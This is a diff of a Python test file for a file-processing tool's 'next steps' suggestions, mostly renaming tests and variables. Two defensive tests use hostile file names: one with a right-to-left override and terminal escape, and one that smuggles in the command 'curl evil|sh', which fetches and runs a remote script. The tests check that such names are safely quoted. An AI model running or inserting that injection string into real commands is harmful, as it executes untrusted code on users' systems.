@@ -1,4 +1,4 @@
-"""What to do next about a file."""
+"""The next steps that are shown for a file."""
 
 import shlex
 from dataclasses import replace
@@ -17,8 +17,8 @@ PUT = "fix the file, then: music-streams put FILE --key 'a b.csv'"
 LONG_AGO = "2024-06-25T12:00:00.000Z"
 
 
-def steps_for(found: Entry, *, is_local: bool = True) -> list[NextStep]:
-    return next_steps(found, is_local=is_local, stall_seconds=300.0)
+def steps_for(entry: Entry, *, is_local: bool = True) -> list[NextStep]:
+    return next_steps(entry, is_local=is_local, stall_seconds=300.0)
 
 
 def entry(status: str, **more) -> Entry:
@@ -26,7 +26,7 @@ def entry(status: str, **more) -> Entry:
 
 
 @pytest.mark.parametrize(
-    ("found", "steps"),
+    ("ledger_entry", "steps"),
     [
         (entry("QUARANTINED", reason="not_utf8"), [PUT]),
         (
@@ -58,27 +58,27 @@ def entry(status: str, **more) -> Entry:
         (entry("RETRACTED", treatment=Treatment.RETRACT), []),
     ],
 )
-def test_it_names_the_command(found, steps):
-    assert [str(step) for step in steps_for(found)] == steps
+def test_the_steps_contain_the_command(ledger_entry, steps):
+    assert [str(step) for step in steps_for(ledger_entry)] == steps
 
 
-def test_what_is_gone_is_put_again():
+def test_a_deleted_file_has_to_be_uploaded_again():
     [step] = steps_for(entry("FAILED", reason="object_gone"))
     assert step.command == "music-streams put FILE"
 
 
-def test_on_aws_the_history_tells_why():
+def test_on_aws_the_step_is_the_history_of_the_execution():
     failed = replace(entry("FAILED", reason="x"), execution_arn="arn:1")
     assert steps_for(failed, is_local=False)[0].command.endswith("get-execution-history --execution-arn arn:1")
 
 
-def test_a_file_whose_name_cannot_be_typed_is_to_be_put_under_another():
+def test_a_file_whose_name_cannot_be_typed_needs_another_name():
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key="incoming/a\u202e\x1b[2J.csv"))
     [step, *_] = steps_for(hostile)
     assert step == NextStep("fix the file and put it again under a printable name")
 
 
-def test_a_name_of_spaces_and_quotes_is_one_word_of_the_command():
+def test_a_name_with_spaces_and_quotes_is_one_argument_of_the_command():
     name = "x   '; curl evil|sh   '.csv"
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key=f"incoming/{name}"))
     [step] = steps_for(hostile)
